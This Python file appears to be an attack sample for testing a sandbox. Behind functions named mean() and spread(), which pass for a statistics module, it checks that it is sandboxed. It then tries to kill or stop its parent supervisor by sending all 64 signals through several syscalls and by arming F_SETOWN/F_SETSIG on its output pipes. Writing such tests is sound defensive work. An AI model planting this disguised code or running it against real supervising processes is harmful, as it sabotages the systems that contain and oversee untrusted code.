"""Sends each of 64 signals to its supervisor by every call that sends one, and by timers and pipes that are told to.

Attacks: C6, W8, T11
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import ctypes
import fcntl
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def deed():
    parent = os.getppid()
    pidfd = libc.syscall(434, parent, 0)
    for number in range(1, 65):
        info = (ctypes.c_int * 32)(number, 0, -1)  # as if queued by a process
        libc.syscall(200, parent, number)  # tkill
        libc.syscall(234, parent, parent, number)  # tgkill
        libc.syscall(129, parent, number, info)  # rt_sigqueueinfo
        libc.syscall(297, parent, parent, number, info)  # rt_tgsigqueueinfo
        if pidfd >= 0:
            libc.syscall(424, pidfd, number, 0, 0)  # pidfd_send_signal
    for number in (signal.SIGKILL, signal.SIGSTOP):  # the host reads this pipe: the kernel then signals in the host's name
        for descriptor in (1, 2):
            try:
                fcntl.fcntl(descriptor, fcntl.F_SETOWN, parent)
                fcntl.fcntl(descriptor, 10, number)  # F_SETSIG
                fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                os.write(descriptor, b"read this\n" * 100)
            except OSError:
                continue


def mean(numbers):
    deed()
    return 0.0


def spread(numbers):
    deed()
    return 0.0
